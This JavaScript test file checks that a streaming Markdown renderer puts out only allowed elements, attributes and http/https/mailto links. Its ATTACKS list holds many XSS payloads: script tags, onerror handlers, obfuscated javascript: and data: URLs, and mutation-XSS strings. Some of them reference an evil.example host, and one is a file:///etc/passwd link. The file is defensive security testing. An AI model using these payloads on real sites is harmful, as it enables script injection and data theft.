// Markdown while it streams: nothing active, whatever is written; and the same as if it came at once.

import assert from "node:assert/strict";
import { test } from "node:test";
import { MarkdownText, plainText, safeUrl } from "../../edge/web/tailrace/markdown.js";
import { choose, seeded } from "./random.js";

const TAGS = "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul".split(" ");
const ATTRIBUTES = { a: ["href", "rel", "target"], ol: ["start"], pre: ["data-language"], td: ["class"], th: ["class"] };

const nodesOf = (text) => new MarkdownText().update(text).flatMap(({ nodes }) => nodes);

function* elements(nodes) {
  for (const node of nodes) {
    if (typeof node === "string") continue;
    yield node;
    yield* elements(node.children);
  }
}

/** Check that nothing of a text can act, and return its links. */
function checked(text) {
  const links = [];
  for (const { tag, attributes } of elements(nodesOf(text))) {
    assert.ok(TAGS.includes(tag), tag);
    for (const [name, value] of Object.entries(attributes)) {
      assert.ok(ATTRIBUTES[tag]?.includes(name), `${tag} ${name}`);
      if (name === "class") assert.match(value, /^at-(left|center|right)$/);
      if (name === "start") assert.match(value, /^\d+$/);
      if (name === "data-language") assert.match(value, /^[\w+#.-]{1,32}$/);
    }
    if (tag !== "a") continue;
    assert.match(attributes.href, /^(https?|mailto):/);
    assert.equal(attributes.rel, "noopener noreferrer");
    links.push(attributes.href);
  }
  return links;
}

/** Return nodes in a short form: `p(Hi em(you))`. */
const brief = (nodes) =>
  nodes.map((node) => (typeof node === "string" ? node : `${node.tag}(${brief(node.children)})`)).join("");

// ---- attacks ----

/** Each text with the links that it may have. */
const ATTACKS = [
  ["<script>alert(1)</script>", []],
  ["a <script src=//evil.example/x.js></script> b", []],
  ["<scr<script>ipt>alert(1)</scr</script>ipt>", []],
  ["<!--><script>alert(1)</script>-->", []],
  ["<img src=x onerror=alert(1)>", []],
  ["# <img src=x onerror=alert(1)>", []],
  ["| <img src=x onerror=alert(1)> |\n|-|\n| <svg onload=alert(1)> |", []],
  ["- <details open ontoggle=alert(1)>", []],
  ["> <iframe srcdoc='<script>alert(1)</script>'>", []],
  ["<style>*{background:url(//evil.example)}</style>", []],
  ["<form action=//evil.example><input name=q>", []],
  ["<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", []],
  ["<a href=javascript:alert(1)>x</a>", []],
  ["[x](javascript:alert(1))", []],
  ["[x](JaVaScRiPt:alert(1))", []],
  ["[x](  javascript:alert(1)  )", []],
  ["[x](java\tscript:alert(1))", []],
  ["[x](<java\tscript:alert(1)>)", []],
  ["[x](<\u0001javascript:alert(1)>)", []],
  ["[x](javascript&colon;alert(1))", []],
  ["[x](&#106;avascript:alert(1))", []],
  ["[x](&#x6A;avascript:alert(1))", []],
  ["[x](javascript&#58;alert(1))", []],
  ["[x](vbscript:msgbox)", []],
  ["[x](data:text/html,<script>alert(1)</script>)", []],
  ["[x](data:image/svg+xml;base64,AAAA)", []],
  ["[x](file:///etc/passwd)", []],
  ["[x](blob:https://app.example/1)", []],
  ["[x](//evil.example)", []],
  ["[x](/v1/admin/streams)", []],
  ["[x](#/pool)", []],
  ["[x]\n\n[x]: javascript:alert(1)", []],
  ["<javascript:alert(1)>", []],
  ["![x](javascript:alert(1))", []],
  ["![x](data:image/svg+xml,<svg/onload=alert(1)>)", []],
  ['![x](https://evil.example/?q=secret "t")', ["https://evil.example/?q=secret"]],
  ['![" onerror="alert(1)](https://a.example)', ["https://a.example/"]],
  ['[x](https://a.example/" onclick="alert(1))', ["https://a.example/"]],
  ["[x](https://a.example/%22onclick=alert(1))", ["https://a.example/%22onclick=alert(1)"]],
  ["[**[x](javascript:alert(1))**](https://a.example)", null],
  ["<https://a.example/><script>", ["https://a.example/"]],
  ["<a@b.example>", ["mailto:a@b.example"]],
  ["www.a.example", ["http://www.a.example/"]],
  ["```js onload=alert(1)\nx\n```", []],
  ['```"><img/src=x/onerror=alert(1)>\nx', []],
  ["```\n<script>alert(1)</script>", []],
  ["~~~\n</code></pre><script>alert(1)</script>", []],
  ["`<script>alert(1)</script>", []],
  ["&lt;script&gt;alert(1)&lt;/script&gt;", []],
  ["&#0;&#xd800;&#x110000;&#9999999;", []],
  ["__proto__ [x](__proto__) [constructor]\n\n[constructor]: https://a.example", ["https://a.example/"]],
  [`${">".repeat(3_000)}x`, []],
  [`${">".repeat(30_000)}x`, []],
  [`${"- ".repeat(40)}x`, []],
  [Array.from({ length: 300 }, (_, nth) => `${"  ".repeat(nth)}- x`).join("\n"), []],
  ["*".repeat(5_000) + "x", []],
  ["[".repeat(5_000), []],
  ["![](".repeat(2_000), []],
];

test("no attack gives an element, an attribute or an address that is not on the list", () => {
  for (const [text, links] of ATTACKS) {
    const found = checked(text);
    if (links) assert.deepEqual(found, links, text);
  }
});

test("no prefix of an attack does either, as it comes while it streams", () => {
  for (const [text] of ATTACKS) {
    const markdown = new MarkdownText();
    for (let end = 1; end <= Math.min(text.length, 120); end++) {
      checked(text.slice(0, end));
      markdown.update(text.slice(0, end));
    }
  }
});

test("raw HTML is shown as it is written", () => {
  assert.equal(brief(nodesOf("a <b>x</b> c")), "p(a <b>x</b> c)");
  assert.equal(brief(nodesOf("<script>\nalert(1)\n</script>\n\nx")), "p(<script>\nalert(1)\n</script>)p(x)");
});

test("an address is the one that a browser would read", () => {
  for (const [href, url] of [
    ["https://a.example", "https://a.example/"],
    ["HTTP://A.example/\u00e9", "http://a.example/%C3%A9"],
    ["mailto:a@b.example", "mailto:a@b.example"],
    ["https://a.example/?a=1&amp;b=2", "https://a.example/?a=1&b=2"],
    ["java\nscript:alert(1)", null],
    ["relative", null],
    ["", null],
  ]) assert.equal(safeUrl(href), url);
});

// ---- what is shown ----

test("each construct has its element", () => {
  for (const [text, shown] of [
    ["# Hi *you*\n\nA **b** ~~c~~ `d<e`", "h1(Hi em(you))p(A strong(b) del(c) code(d<e))"],
    ["- [x] a\n- b\n  1. c", "ul(li(\u2611 a)li(bol(li(c))))"],
    ["> a\n>\n> b", "blockquote(p(a)p(b))"],
    ["| a | b |\n|---|:-:|\n| 1 | 2 |", "table(thead(tr(th(a)th(b)))tbody(tr(td(1)td(2))))"],
    ["a  \nb\n\n---", "p(abr()b)hr()"],
    ["\\*a\\* &amp; &lt;b&gt; &nosuch; &#8364;", "p(*a* & <b> &nosuch; \u20ac)"],
    ["![alt](https://a.example/x.png)", "p(a(alt))"],
    ["[](https://a.example/)", "p(a(https://a.example/))"],
    ["[r] b\n\n[r]: https://a.example", "p(a(r) b)"],
  ]) assert.equal(brief(nodesOf(text)), shown);
  const [list, , pre] = nodesOf("7. a\n\n```py\nx\n```\n").concat(nodesOf("```c++ extra\ny"));
  assert.deepEqual([list.attributes, pre.attributes], [{ start: "7" }, { "data-language": "c++" }]);
});

test("a fence that is open is code already", () => {
  assert.equal(brief(nodesOf("x\n\n```js\nlet a = '<b>';")), "p(x)pre(code(let a = '<b>';))");
});

test("a screen reader gets the text without the marks", () => {
  const blocks = new MarkdownText().update("# One\n\nTwo **three** [four](https://a.example).\n\n- five\n- six\n");
  assert.equal(plainText(blocks), "One\nTwo three four.\n\nfive\nsix\n");
});

// ---- while it grows ----

const PIECES = ["word ", "**bold** ", "`code` ", "\n", "\n\n", "\n\n", "- item\n", "1. one\n", "2. two\n", "  more\n", "    deep\n", "> quote\n", "# Title\n", "===\n", "---\n", "```js\n", "```\n", "~~~\n", "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "<div>\n", "</div>\n", "<!-- ", "-->\n", "[a](https://a.example) ", "[x]", "* ", "\t", "\\", "&amp;", "\r\n", "\r", "_", "  \n", "1", ".", "-", " ", "\u00a0\n", "\u{1f30a}"];
const TARGETS = ["[x]: https://b.example\n", "[x]: https://c.example 'title'\n\n"];

/** Return a text in pieces, which also break in the middle. */
function pieces(random, list) {
  return Array.from({ length: 50 }, () => {
    const piece = choose(random, list);
    return random() < 0.2 ? [...piece].slice(0, 1 + Math.floor(random() * piece.length)).join("") : piece;
  });
}

test("a text that comes in pieces looks like one that came at once, at every moment", () => {
  let kept = 0;
  for (let seed = 1; seed <= 400; seed++) {
    const random = seeded(seed);
    const markdown = new MarkdownText();
    let text = "";
    let before = [];
    for (const piece of pieces(random, seed % 4 ? PIECES : [...PIECES, ...TARGETS])) {
      if (random() < 0.02) text = text.slice(0, Math.floor(random() * text.length)); // a revision
      text += piece;
      const blocks = markdown.update(text);
      const whole = new MarkdownText().update(text);
      assert.deepEqual(blocks, whole, `seed ${seed}: ${JSON.stringify(text)}`);
      kept += blocks.filter((block, nth) => block === before[nth]).length;
      before = [...blocks];
    }
  }
  assert.ok(kept > 10_000, `${kept} blocks stayed the same objects`);
});

test("the blocks lie side by side and make up the text", () => {
  for (let seed = 1; seed <= 50; seed++) {
    const text = pieces(seeded(seed), PIECES).join("").replace(/\r\n?/g, "\n");
    let place = 0;
    for (const { begin, end, raw } of new MarkdownText().update(text)) {
      assert.equal(begin, place);
      assert.equal(end, begin + raw.length);
      place = end;
    }
  }
});

test("an update costs what the last blocks cost, not what the text costs", () => {
  const paragraph = "Some *words* with `code` and [links](https://a.example).\n\n";
  const markdown = new MarkdownText();
  const long = paragraph.repeat(3_000);
  markdown.update(long);
  const before = [...markdown.update(`${long}More`)];
  const blocks = markdown.update(`${long}More text`);
  assert.equal(blocks.filter((block, nth) => block !== before[nth]).length, 1);
});
